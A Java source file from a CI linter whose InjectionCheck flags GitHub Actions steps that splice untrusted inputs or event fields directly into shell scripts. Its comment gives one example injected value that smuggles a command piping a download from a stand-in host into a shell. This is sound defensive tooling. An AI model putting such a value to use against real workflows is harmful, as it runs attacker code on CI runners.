package io.meshproof.ci.check;

import io.meshproof.ci.project.Project;
import io.meshproof.ci.workflow.Step;
import io.meshproof.ci.workflow.Workflow;

import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * No script splices in a value someone else chooses: {@code ${{ }}} is substituted into the script text before
 * the shell reads it, so a workflow input or event field such as {@code 1.2; curl evil | sh} would run as code.
 * Such values go through {@code env:} and are read as {@code "$NAME"}.
 */
public final class InjectionCheck implements WorkflowCheck {

    private static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{(.*?)}}", Pattern.DOTALL);
    /** Contexts whose values come from whoever triggers the run. */
    private static final Pattern UNTRUSTED = Pattern.compile("\\b(inputs\\.|github\\.event\\b|github\\.head_ref\\b)");

    @Override
    public List<Finding> check(Workflow workflow, Project project) {
        List<Finding> findings = new ArrayList<>();
        for (Step step : workflow.steps()) {
            step.run().ifPresent(script -> {
                Matcher m = EXPRESSION.matcher(script);
                while (m.find()) {
                    String expression = m.group(1).strip();
                    if (UNTRUSTED.matcher(expression).find()) {
                        findings.add(new Finding(workflow.displayName(), step.where() + ".run",
                                "splices ${{ " + expression + " }} into the script, where a crafted value runs as"
                                        + " shell code; pass it through env: (NAME: ${{ " + expression + " }}) and use \"$NAME\""));
                    }
                }
            });
        }
        return findings;
    }
}
